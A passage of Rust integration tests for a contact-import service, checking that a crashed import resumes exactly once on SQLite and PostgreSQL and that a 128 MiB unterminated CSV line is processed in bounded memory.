            &format!("SELECT progress_done FROM job_records WHERE id = {jid}"),
        )
        .await;
        assert!(done > 0 && done < ROWS as i64, "{done}");
        // What was committed is exactly what the checkpoint says was done.
        let contacts_then = scalar(&db, "SELECT COUNT(*) FROM contacts").await;
        let errors_then = scalar(
            &db,
            &format!("SELECT COUNT(*) FROM import_errors WHERE job_id = {jid}"),
        )
        .await;
        assert_eq!(
            contacts_then + errors_then,
            done,
            "work and checkpoint commit together"
        );
        let want_errors_then = (0..done as u64).filter(|i| invalid(*i)).count() as i64;
        assert_eq!(errors_then, want_errors_then);

        node.start().await;
        let who = node.login("marketer@example.com").await;
        let j = eventually(90, "the resumed import to succeed", || async {
            let j = node.job(&who, &job).await;
            assert_ne!(j["status"], "failed", "{j}");
            (j["status"] == "succeeded").then_some(j)
        })
        .await;
        eprintln!("{backend:?}: done after {:?}", started.elapsed());
        let invalid_rows = (0..ROWS).filter(|i| invalid(*i)).count() as u64;
        let valid = ROWS - invalid_rows;
        assert_eq!(j["progress_done"], ROWS);
        assert_eq!(j["progress_total"], ROWS);
        assert_eq!(j["progress_failed"], invalid_rows);
        assert!(j["attempts"].as_i64().unwrap() >= 2, "{j}");
        assert_eq!(
            j["result"],
            json!({"rows": ROWS, "created": valid, "updated": 0, "failed": invalid_rows})
        );

        // Exactly the valid rows, each once; each bad row reported once.
        assert_eq!(
            scalar(&db, "SELECT COUNT(*) FROM contacts").await,
            valid as i64
        );
        assert_eq!(
            scalar(&db, "SELECT COUNT(DISTINCT external_id) FROM contacts").await,
            valid as i64
        );
        assert_eq!(
            scalar(&db, "SELECT COUNT(*) FROM contact_phones").await,
            valid as i64
        );
        assert_eq!(
            scalar(&db, "SELECT COUNT(DISTINCT e164) FROM contact_phones").await,
            valid as i64
        );
        assert_eq!(
            scalar(&db, "SELECT COUNT(*) FROM contact_emails").await,
            valid as i64
        );
        assert_eq!(
            scalar(&db, "SELECT COUNT(*) FROM contact_tags").await,
            valid as i64
        );
        assert_eq!(
            scalar(
                &db,
                &format!("SELECT COUNT(*) FROM import_errors WHERE job_id = {jid}")
            )
            .await,
            invalid_rows as i64
        );
        assert_eq!(
            scalar(
                &db,
                &format!(
                    "SELECT COUNT(DISTINCT row_number) FROM import_errors WHERE job_id = {jid}"
                )
            )
            .await,
            invalid_rows as i64
        );
        let want: i64 = (0..ROWS)
            .filter(|i| invalid(*i))
            .map(|i| i as i64 + 1)
            .sum();
        assert_eq!(
            scalar(
                &db,
                &format!(
                    "SELECT CAST(SUM(row_number) AS BIGINT) FROM import_errors WHERE job_id = {jid}"
                )
            )
            .await,
            want,
            "the right rows failed"
        );
        // The first and last rows made it, with their phone normalised.
        for (ext, phone) in [
            ("x0", "+12013000000"),
            (
                &format!("x{}", ROWS - 1) as &str,
                &format!(
                    "+1201{}{:04}",
                    300 + (ROWS - 1) / 10_000,
                    (ROWS - 1) % 10_000
                ) as &str,
            ),
        ] {
            let n = scalar(&db, &format!("SELECT COUNT(*) FROM contacts c JOIN contact_phones p ON p.contact_id = c.id WHERE c.external_id = '{ext}' AND p.e164 = '{phone}'")).await;
            assert_eq!(n, 1, "{ext} {phone}");
        }
        node.kill().await;
        eprintln!("{backend:?}: the crash test took {:?}", started.elapsed());
    }

    /// The peak resident memory of a process so far, in bytes (Linux).
    fn peak_rss(pid: u32) -> u64 {
        let status = std::fs::read_to_string(format!("/proc/{pid}/status")).unwrap();
        let kb: u64 = status
            .lines()
            .find_map(|l| l.strip_prefix("VmHWM:"))
            .and_then(|v| v.split_whitespace().next())
            .and_then(|v| v.parse().ok())
            .expect("VmHWM");
        kb * 1024
    }

    /// A 128 MiB line (say, a quote that never closes in a big file) is read
    /// through, not held: the import's peak memory stays far below it. On
    /// PostgreSQL, where the node's memory is its own (SQLite's page cache,
    /// up to `cache_size` per connection, would fill with the file's pages
    /// inside the node and blur the measure).
    #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
    async fn a_huge_line_is_read_in_bounded_memory() {
        if postgres_url().is_none() {
            eprintln!("TEST_POSTGRES_URL is not set: this PostgreSQL test did not run");
            return;
        }
        let pg = PgDatabase::create().await;
        let dir = tempfile::tempdir().unwrap();
        let db_url = pg.url.clone();
        let mut node = Node::new(dir.path(), &db_url, &settings());
        node.seed().await;
        node.start().await;
        let who = node.login("marketer@example.com").await;
        const HUGE: usize = 128 * 1024 * 1024;
        let mut csv = b"external_id,name,phone\nh1,Ann,2015550131\nh2,\"".to_vec();
        csv.extend(std::iter::repeat_n(b'y', HUGE));
        csv.extend_from_slice(b"\",2015550132\nh3,Cal,2015550133\n");
        let r = node
            .req(
                reqwest::Method::POST,
                "/api/v1/uploads?filename=huge.csv",
                &who,
            )
            .body(csv)
            .send()
            .await
            .unwrap();
        assert_eq!(r.status(), 201);
        let up: Value = r.json().await.unwrap();
        let pid = node.pid();
        let before = peak_rss(pid);
        let r = node
            .req(reqwest::Method::POST, "/api/v1/contacts/imports", &who)
            .json(&json!({"upload_id": up["id"]}))
            .send()
            .await
            .unwrap();
        assert_eq!(r.status(), 202);
        let job = r.json::<Value>().await.unwrap()["id"]
            .as_str()
            .unwrap()
            .to_owned();
        let j = eventually(60, "the import to end", || async {
            let j = node.job(&who, &job).await;
            (j["status"] == "succeeded" || j["status"] == "failed").then_some(j)
        })
        .await;
        assert_eq!(
            j["result"],
            json!({"rows": 3, "created": 2, "updated": 0, "failed": 1}),
            "{j}"
        );
        // Reading the file takes some memory whatever the line's length (1
        // MiB chunks through the allocator and the driver); holding the line
        // would take at least its 128 MiB, and copying it for the report as
        // much again. (30-35 MiB here, with 128 or 256 MiB lines.)
        let grown = peak_rss(pid).saturating_sub(before);
        assert!(
            grown < 64 << 20,
            "the import's peak memory grew by {} MiB",
            grown >> 20
        );
        let r = node
            .req(
                reqwest::Method::GET,
                &format!("/api/v1/contacts/imports/{job}/errors"),
                &who,
            )
            .send()
            .await
            .unwrap();
        let errs: Value = r.json().await.unwrap();
        assert_eq!(errs["items"][0]["row_number"], 2);
        assert_eq!(
            errs["items"][0]["errors"][0],
            "the row is longer than 1048576 bytes"
        );
        node.kill().await;
    }

    #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
    async fn a_killed_import_resumes_exactly_once_sqlite() {
        killed_mid_import_resumes_exactly_once(Backend::Sqlite).await;
    }

    #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
    async fn a_killed_import_resumes_exactly_once_postgres() {
        if postgres_url().is_some() {
            killed_mid_import_resumes_exactly_once(Backend::Postgres).await;
        } else {
            eprintln!(
                "TEST_POSTGRES_URL is not set: the PostgreSQL variant of this test did not run"
            );
        }
    }
}
